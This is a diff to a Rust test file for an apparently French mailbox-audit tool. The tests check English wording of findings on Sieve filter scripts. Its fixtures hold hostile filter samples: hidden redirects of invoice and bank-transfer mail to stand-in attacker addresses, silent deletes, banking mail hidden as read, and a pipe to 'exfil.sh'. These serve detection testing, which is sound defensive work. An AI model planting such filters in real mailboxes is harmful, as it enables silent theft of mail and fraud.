@@ -1,7 +1,9 @@
 //! Analysis of Sieve scripts through the public entry point: one test per finding id, the
-//! French wording of conditions, variables, nesting, and the severity policy.
+//! French wording of conditions, variables, nesting, and the severity policy; and the English
+//! translation of every finding (checked on every finding of every script below).
 
-use vigie_mail::audit::{AuditFinding, Severity};
+use proptest::prelude::*;
+use vigie_mail::audit::{AuditFinding, FindingText, Severity};
 use vigie_mail::sieve::{AuditContext, ScriptSource, analyse_script};
 
 fn ctx() -> AuditContext {
@@ -10,15 +12,60 @@ fn ctx() -> AuditContext {
     }
 }
 
+/// The findings of `text`, each checked for its English words (see [`assert_english`]).
 fn analyse(text: &str, active: bool) -> Vec<AuditFinding> {
-    analyse_script(
+    let findings = analyse_script(
         &ScriptSource {
             name: "roundcube",
             active,
             text,
         },
         &ctx(),
-    )
+    );
+    for finding in &findings {
+        assert_english(finding);
+    }
+    findings
+}
+
+/// Words that only French text has: the guillemets and the usual words of a French detail.
+const FRENCH_MARKERS: &[&str] = &["«", "»", "les messages", " sont ", "dont "];
+
+/// The English words of a finding: present, nothing empty, one step for each French step.
+fn english(f: &AuditFinding) -> &FindingText {
+    let Some(en) = f.translations.get("en") else {
+        panic!("no English for {}: {f:#?}", f.id)
+    };
+    for (field, text) in [
+        ("title", &en.title),
+        ("detail", &en.detail),
+        ("remediation", &en.remediation),
+    ] {
+        assert!(!text.trim().is_empty(), "empty English {field} in {f:#?}");
+    }
+    assert_eq!(
+        en.remediation.lines().count(),
+        f.remediation.lines().count(),
+        "English and French steps differ:\n{}\n---\n{}",
+        en.remediation,
+        f.remediation
+    );
+    en
+}
+
+/// [`english`], and no French left in the English words (the scripts of these tests hold no
+/// French markers themselves).
+fn assert_english(f: &AuditFinding) {
+    let en = english(f);
+    for text in [&en.title, &en.detail, &en.remediation] {
+        for marker in FRENCH_MARKERS {
+            assert!(
+                !text.contains(marker),
+                "French « {marker} » in the English words of {}:\n{text}",
+                f.id
+            );
+        }
+    }
 }
 
 fn ids(findings: &[AuditFinding]) -> Vec<&str> {
@@ -743,6 +790,9 @@ fn long_elsif_chains_stay_fast_and_bounded() {
         "{}",
         redirect.detail.len()
     );
+    let en = english(redirect);
+    assert!(en.detail.chars().count() < 4000, "{}", en.detail.len());
+    assert!(en.detail.contains("… ("), "{}", en.detail);
 }
 
 #[test]
@@ -840,7 +890,14 @@ fn hostile_scripts_are_analysed_in_bounded_time_and_size() {
         assert!(elapsed.as_secs() < 30, "{name}: {elapsed:?}");
         let size: usize = findings
             .iter()
-            .map(|f| f.detail.len() + f.remediation.len() + f.evidence.to_string().len())
+            .map(|f| {
+                let en = english(f);
+                f.detail.len()
+                    + f.remediation.len()
+                    + f.evidence.to_string().len()
+                    + en.detail.len()
+                    + en.remediation.len()
+            })
             .sum();
         assert!(size < 4 << 20, "{name}: {size} bytes of findings");
         assert!(findings.iter().any(|f| f.id == "sieve.redirect"), "{name}");
@@ -862,4 +919,323 @@ fn variable_tracking_gives_up_on_hostile_scripts_towards_outside() {
     // Too much bookkeeping: the target is no longer known, so it counts as outside.
     assert_eq!(f.evidence["target"], "«valeur calculée à l'exécution»");
     assert_eq!(f.severity, Severity::Critical);
+}
+
+// --- English ------------------------------------------------------------------------------------
+
+#[test]
+fn english_redirect_three_levels_deep_names_script_line_condition_and_target() {
+    let script = r#"require ["variables", "copy"];
+set "user" "collecte";
+set "domain" "exemple-pirate.net";
+if anyof (header :contains "subject" ["facture", "virement"], address :is "from" ["tresorerie@dgfip.fr", "compta@fournisseur.fr"]) {
+    if not size :over 1M {
+        if allof (exists "X-Mailer", not header :is "to" "maire@mairie-exemple.fr") {
+            redirect :copy "${user}@${domain}";
+        }
+    }
+}
+"#;
+    let f = single(script);
+    let en = english(&f);
+    assert_eq!(
+        en.title,
+        "Hidden copy of every message sent to an outside address"
+    );
+    assert!(
+        en.detail.starts_with(
+            "The filter “roundcube” (active), line 7: messages (whose subject contains “facture” or “virement” or whose sender is “tresorerie@dgfip.fr” or “compta@fournisseur.fr”) and that have a “X-Mailer” header and no larger than 1 MB and whose recipient is not “maire@mairie-exemple.fr” are copied and forwarded to collecte@exemple-pirate.net."
+        ),
+        "{}",
+        en.detail
+    );
+    assert_contains(
+        &en.detail,
+        "With “:copy”, every message also stays in the mailbox",
+    );
+    assert_contains(
+        &en.detail,
+        "does not belong to the mailbox's domain (mairie-exemple.fr)",
+    );
+    assert_contains(
+        &en.remediation,
+        "this forwarding to collecte@exemple-pirate.net",
+    );
+    assert_contains(&en.remediation, "(line 7)");
+    // The evidence stays French: it is the JSON contract.
+    assert!(
+        f.evidence["condition"]
+            .as_str()
+            .is_some_and(|c| c.starts_with("les messages"))
+    );
+}
+
+#[test]
+fn english_redirect_outside_title_detail_and_steps() {
+    let script =
+        "if header :contains \"from\" \"tresorerie\" {\n    redirect \"pirate@example.net\";\n}\n";
+    let f = single(script);
+    let en = english(&f);
+    assert_eq!(
+        en.title,
+        "Messages automatically forwarded to an outside address"
+    );
+    assert!(
+        en.detail.starts_with(
+            "The filter “roundcube” (active), line 2: messages whose sender contains “tresorerie” are forwarded to pirate@example.net."
+        ),
+        "{}",
+        en.detail
+    );
+    let r = &en.remediation;
+    assert!(
+        r.starts_with("1. Before changing anything, take a screenshot"),
+        "{r}"
+    );
+    for needle in [
+        "Ask the owner of the mailbox whether they created this forwarding to pirate@example.net themselves.",
+        "“Settings › Filters”",
+        "password",
+        "two-factor authentication",
+        "since when messages have been going to pirate@example.net",
+        "cybermalveillance.gouv.fr",
+    ] {
+        assert_contains(r, needle);
+    }
+    // Same facts, same order of steps as the French.
+    assert_eq!(r.lines().count(), 7);
+    let f = single("redirect \"compta@mairie-exemple.fr\";");
+    assert_eq!(
+        english(&f).title,
+        "Messages automatically forwarded to another address of the same organisation"
+    );
+    assert_contains(
+        &english(&f).detail,
+        "line 1: all messages are forwarded to compta@mairie-exemple.fr.",
+    );
+}
+
+#[test]
+fn english_conditions_after_elsif_and_stop() {
+    let script = r#"if header :contains "subject" "newsletter" {
+    fileinto "Lettres";
+} elsif size :over 1M {
+    redirect "gros@example.net";
+} else {
+    redirect "reste@example.net";
+}
+"#;
+    let findings = analyse(script, true);
+    assert_contains(
+        &english(&findings[0]).detail,
+        "line 4: messages larger than 1 MB and whose subject does not contain “newsletter” are forwarded to gros@example.net.",
+    );
+    assert_contains(
+        &english(&findings[1]).detail,
+        "line 6: all messages except those whose subject contains “newsletter” or larger than 1 MB are forwarded to reste@example.net.",
+    );
+    let f = single("keep;\nstop;\nredirect \"pirate@example.net\";");
+    assert_contains(&english(&f).detail, "A “stop” command placed before it");
+}
+
+#[test]
+fn english_variables_and_run_time_values() {
+    let script = r#"require ["variables"];
+if header :contains "subject" "a" { set "alt" "a@example.net"; } else { set "alt" "b@example.org"; }
+redirect "${alt}";
+if header :matches "subject" "* *" { redirect "${1}@${2}"; }
+"#;
+    let findings = analyse(script, true);
+    assert_contains(
+        &english(&findings[0]).detail,
+        "are forwarded to a@example.net or b@example.org.",
+    );
+    let en = english(&findings[1]);
+    assert_contains(
+        &en.detail,
+        "are forwarded to [value only known when the message arrives]@[value only known when the message arrives].",
+    );
+    assert_contains(
+        &en.detail,
+        "only known when a message arrives (it is a variable)",
+    );
+    assert!(!en.detail.contains("valeur"), "{}", en.detail);
+}
+
+#[test]
+fn english_for_every_other_kind_of_finding() {
+    let f = single("if header :contains \"from\" \"dgfip\" { discard; }");
+    assert_eq!(
+        english(&f).title,
+        "Messages deleted automatically, without going through the trash"
+    );
+    assert_contains(
+        &english(&f).detail,
+        "line 1: messages whose sender contains “dgfip” are deleted without being delivered or put in the trash.",
+    );
+    let f = single(
+        "require [\"fileinto\", \"imap4flags\"];\nif body :contains [\"RIB\", \"virement\"] {\n    addflag \"\\\\Seen\";\n    fileinto \"RSS Feeds\";\n}\n",
+    );
+    assert_contains(
+        &english(&f).detail,
+        "messages whose body contains “RIB” or “virement” are moved to the folder “RSS Feeds” (a barely visible folder that nobody looks at) and marked as read.",
+    );
+    assert_contains(&english(&f).detail, "signature of an account takeover");
+    let f = single(
+        "require \"vacation\";\nvacation :days 7 :subject \"Absence\" :addresses [\"secretariat@mairie-exemple.fr\"] \"Back on 3 March.\";",
+    );
+    assert_eq!(
+        english(&f).title,
+        "Automatic reply (out-of-office message) set up"
+    );
+    assert_contains(
+        &english(&f).detail,
+        "all messages get an automatic reply (subject “Absence”; at most one reply every 7 days to each sender; addresses it answers for: “secretariat@mairie-exemple.fr”; text: “Back on 3 March.”).",
+    );
+    let f = single("vacation :subject \"Changement\" \"Please note our new bank details.\";");
+    assert_eq!(english(&f).title, "Automatic reply mentioning bank details");
+    let f = single(
+        "if header :contains \"from\" \"banque\" { notify :message \"Nouveau\" \"mailto:espion@example.net?subject=x\"; }",
+    );
+    assert_contains(
+        &english(&f).detail,
+        "messages whose sender contains “banque” trigger a notification sent to espion@example.net (message: “Nouveau”).",
+    );
+    let f = single("require \"vnd.dovecot.pipe\";\npipe \"exfil.sh\" [\"-q\"];");
+    assert_contains(
+        &english(&f).detail,
+        "all messages are handed to the external program “exfil.sh” (arguments: “-q”).",
+    );
+    let f = single("require \"include\";\ninclude :personal \"transferts\";");
+    assert_contains(&english(&f).detail, "personal script “transferts”");
+    let f = single_with("redirect \"pirate@example.net\";", false);
+    assert_contains(
+        &english(&f).detail,
+        "The filter “roundcube” (inactive), line 1",
+    );
+    assert_contains(&english(&f).detail, "switched back on at any time");
+    let f = single(
+        "require [\"fileinto\"];\n# rule:[pause]\nif false # header :contains \"from\" \"tresorerie\"\n{\n\tredirect \"pirate@example.net\";\n}\n",
+    );
+    assert_contains(&english(&f).detail, "This rule is paused");
+    assert_contains(
+        &english(&f).detail,
+        "Name of the rule in the webmail: “pause”.",
+    );
+}
+
+#[test]
+fn english_parse_errors_and_truncation() {
+    let f = single(
+        "require \"fileinto\";\nif header :contains \"subject\" \"x\" {\n  fileinto \"Trash\"\n}\n",
+    );
+    let en = english(&f);
+    assert_eq!(
+        en.title,
+        "Unreadable filter: the Sieve script contains an error"
+    );
+    assert_contains(
+        &en.detail,
+        "The filter “roundcube” (active), line 4, column 1: the script cannot be read (found “}” where “;” or “{” was expected).",
+    );
+    assert_contains(&en.remediation, "look at line 4");
+    let mut script = String::from("require [\"fileinto\"];\n");
+    for _ in 0..300 {
+        script.push_str("fileinto :copy \"Trash\";\n");
+    }
+    let findings = analyse(&script, true);
+    let en = english(&findings[200]);
+    assert_eq!(en.title, "Too many rules to report: shortened list");
+    assert_contains(
+        &en.detail,
+        "contains 300 actions to report; only the 200 most serious ones are listed.",
+    );
+}
+
+/// Conditions and actions assembled by the property test below.
+const CONDITIONS: &[&str] = &[
+    "true",
+    "false",
+    "header :contains \"subject\" [\"facture\", \"virement\"]",
+    "address :domain :is \"from\" \"mairie-exemple.fr\"",
+    "envelope :is \"to\" \"a@b.fr\"",
+    "size :over 1M",
+    "exists \"X-Spam-Flag\"",
+    "header :contains \"X-Spam-Flag\" \"YES\"",
+    "body :text :contains \"iban\"",
+    "spamtest :value \"ge\" \"6\"",
+    "anyof(header :is \"from\" \"x@y.fr\", size :under 10K)",
+    "allof(exists \"a\", not exists \"b\")",
+    "currentdate :value \"ge\" \"date\" \"2024-01-01\"",
+    "hasflag \"\\\\Flagged\"",
+    "frobnicate \"x\"",
+];
+const ACTIONS: &[&str] = &[
+    "redirect \"pirate@example.net\";",
+    "redirect :copy \"${dest}\";",
+    "redirect \"${1}@example.net\";",
+    "discard;",
+    "fileinto \"Trash\";",
+    "addflag \"\\\\Seen\"; fileinto \"RSS Feeds\";",
+    "fileinto :copy \"Junk\";",
+    "vacation :days 3 :subject \"${subject}\" \"Absent.\";",
+    "notify :message \"m\" \"mailto:x@example.net\";",
+    "notify \"xmpp:x@example.net\";",
+    "pipe \"p\" [\"a\", \"${dest}\"];",
+    "include :global \"g\";",
+    "stop;",
+    "keep;",
+];
+
+/// One `if` of the generated scripts: a condition, whether it is negated, an action, and
+/// whether an `else` with a second action follows.
+fn rule() -> impl Strategy<Value = (usize, bool, usize, Option<usize>)> {
+    (
+        0..CONDITIONS.len(),
+        any::<bool>(),
+        0..ACTIONS.len(),
+        prop::option::of(0..ACTIONS.len()),
+    )
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig::with_cases(128))]
+
+    #[test]
+    fn every_finding_of_a_generated_script_has_english_words(
+        rules in prop::collection::vec(rule(), 1..8),
+        nested in any::<bool>(),
+        active in any::<bool>(),
+    ) {
+        let mut script = String::from(
+            "require [\"fileinto\", \"copy\", \"variables\", \"imap4flags\", \"vacation\", \"enotify\"];\nif header :is \"subject\" \"a\" { set \"dest\" \"a@example.net\"; set \"subject\" \"Absent\"; } else { set \"dest\" \"b@example.org\"; }\n",
+        );
+        let mut closing = String::new();
+        for (condition, negated, action, otherwise) in rules {
+            let not = if negated { "not " } else { "" };
+            script.push_str(&format!("if {not}{} {{\n  {}\n", CONDITIONS[condition], ACTIONS[action]));
+            match (otherwise, nested) {
+                (Some(other), _) => script.push_str(&format!("}} else {{\n  {}\n}}\n", ACTIONS[other])),
+                (None, true) => closing.push_str("}\n"),
+                (None, false) => script.push_str("}\n"),
+            }
+        }
+        script.push_str(&closing);
+        let findings = analyse_script(&ScriptSource { name: "prop", active, text: &script }, &ctx());
+        for f in &findings {
+            assert_english(f);
+        }
+    }
+
+    #[test]
+    fn every_finding_of_sieve_like_text_has_english_words(
+        text in "[a-z{}()\\[\\];,:\"#*/\\\\. \n\r0-9KMG$_-]{0,300}",
+    ) {
+        // Random text may spell French words itself: only the presence and shape of the
+        // English words are checked here.
+        let findings = analyse_script(&ScriptSource { name: "prop", active: true, text: &text }, &ctx());
+        for f in &findings {
+            english(f);
+        }
+    }
 }
